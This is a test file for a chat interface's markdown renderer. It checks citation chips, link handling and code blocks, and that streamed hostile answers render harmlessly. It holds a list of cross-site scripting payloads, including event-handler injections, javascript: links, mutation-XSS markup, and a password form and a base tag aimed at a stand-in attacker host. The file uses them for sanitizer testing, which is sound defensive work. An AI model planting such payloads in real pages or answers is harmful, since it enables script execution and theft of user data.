import { describe, expect, it } from "vitest";
import { knownLanguage } from "../src/chat/highlight";
import { renderBlocks, safeFragment, type RenderSurroundings } from "../src/chat/markdown";

const labels = { copy: "Copy", source: (index: number) => `Open source ${index}`, table: "Table" };
const env = (known: number[] | null = []): RenderSurroundings => ({ labels, known: known && new Set(known) });

function page(text: string, known: number[] | null = []): HTMLElement {
  const root = document.createElement("div");
  for (const html of renderBlocks(text, env(known))) root.append(safeFragment(html));
  return root;
}

describe("markdown of an answer", () => {
  it("renders each top-level block apart, so that a longer text changes only the end", () => {
    const before = renderBlocks("# A\n\none\n\n- x\n- y\n\ntw", env());
    const after = renderBlocks("# A\n\none\n\n- x\n- y\n\ntwo", env());
    expect(before).toHaveLength(4);
    expect(after.slice(0, 3)).toEqual(before.slice(0, 3));
    expect(after[3]).toContain("two");
  });

  it("makes chips of known citations and leaves unknown ones as they are", () => {
    const root = page("Yes [1], and [2, 7]. `x[1]` [1](https://a.example)", [1, 2]);
    const chips = [...root.querySelectorAll("button[data-cite]")];
    expect(chips.map((chip) => chip.textContent)).toEqual(["1", "2"]);
    expect(chips[0]!.getAttribute("data-testid")).toBe("citation");
    expect(chips[0]!.getAttribute("aria-label")).toBe("Open source 1");
    expect(root.textContent).toContain("[7]");
    expect(root.querySelector("code")!.textContent).toBe("x[1]");
    expect(root.querySelector("a")!.textContent).toBe("1");
  });

  it("shows markers as pending while nobody knows the citations", () => {
    const root = page("Yes [1]", null);
    expect(root.querySelector("button")).toBeNull();
    expect(root.querySelector(".cite-pending")!.textContent).toBe("1");
  });

  it("does not lose a line that looks like a link definition", () => {
    expect(page("[1]: handbook.pdf", [1]).textContent).toContain("handbook.pdf");
  });

  it("opens links elsewhere and knows only harmless addresses", () => {
    const root = page("[a](https://a.example) [b](javascript:alert(1)) [c](/local) [d](mailto:x@y.example) https://e.example");
    const links = [...root.querySelectorAll("a")];
    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      "https://a.example",
      "mailto:x@y.example",
      "https://e.example",
    ]);
    for (const link of links) {
      expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      expect(link.getAttribute("target")).toBe("_blank");
    }
  });

  it("never loads an image", () => {
    const root = page("![secret](https://evil.example/?q=1) ![](data:image/png;base64,AAAA)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("a")!.getAttribute("href")).toBe("https://evil.example/?q=1");
  });

  it("keeps alignment without style attributes", () => {
    const root = page("| a | b |\n|:--|--:|\n| 1 | 2 |");
    expect(root.querySelectorAll("td.align-right")).toHaveLength(1);
    expect(root.querySelector("[style]")).toBeNull();
  });

  it("shows code as text, with its language and a copy button", () => {
    const root = page('```python\n<img src=x onerror="alert(1)">\n```');
    expect(root.querySelector("code.language-python")!.textContent).toContain("<img src=x");
    expect(root.querySelector("button[data-code-copy]")!.textContent).toBe("Copy");
    expect(root.querySelector("pre")!.getAttribute("tabindex")).toBe("0");
    expect(root.querySelector("img")).toBeNull();
  });
});

const PAYLOADS = [
  "<script>window.owned=1</script>",
  "<img src=x onerror=window.owned=1>",
  "<svg onload=window.owned=1>",
  "<iframe srcdoc='<script>window.owned=1</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
  "[x](javascript:window.owned=1)",
  "[x](  JaVaScRiPt:window.owned=1)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "![x](javascript:window.owned=1)",
  '[x](https://a.example "onmouseover=window.owned=1")',
  "```x\" onclick=window.owned=1 y=\"\ncode\n```",
  "```<script>\ncode\n```",
  "`<script>window.owned=1</script>`",
  "| <img src=x onerror=window.owned=1> | b |\n|--|--|\n| <svg/onload=window.owned=1> | 2 |",
  "> <details open ontoggle=window.owned=1>",
  "<a href='https://a.example' style='position:fixed;inset:0'>x</a>",
  "<form action='https://evil.example'><input name=password></form>",
  "<base href='https://evil.example'>",
  "<style>*{background:url(https://evil.example)}</style>",
  "&lt;script&gt;window.owned=1&lt;/script&gt;",
  "[1]<button data-cite=1 onclick=window.owned=1>",
];

describe("hostile answers", () => {
  it.each(PAYLOADS)("is harmless whole and at every point of its stream: %s", (payload) => {
    for (let length = 1; length <= payload.length; length += 1) {
      const root = page(`Text [1] ${payload.slice(0, length)}`, [1]);
      for (const node of root.querySelectorAll("*")) {
        expect(["SCRIPT", "IMG", "SVG", "IFRAME", "STYLE", "FORM", "INPUT", "BASE", "MATH", "DETAILS"]).not.toContain(
          node.tagName.toUpperCase(),
        );
        for (const attribute of node.attributes) {
          expect(attribute.name).not.toMatch(/^on|^style$|^src/);
          if (attribute.name === "href") expect(attribute.value).toMatch(/^(https?|mailto):/i);
        }
      }
    }
    expect((globalThis as { owned?: unknown }).owned).toBeUndefined();
  });

  it("takes nothing from HTML that is given directly", () => {
    const root = document.createElement("div");
    root.append(safeFragment('<p onclick="x">a<img src="https://evil.example"><a href="javascript:x">b</a></p>'));
    expect(root.innerHTML).toBe("<p>a<a>b</a></p>");
  });
});

describe("colours", () => {
  it("knows languages by their other names, and nothing else", () => {
    expect(knownLanguage("PY")).toBe("python");
    expect(knownLanguage("html")).toBe("xml");
    expect(knownLanguage("brainfuck")).toBeNull();
    expect(knownLanguage("constructor")).toBeNull();
  });
});
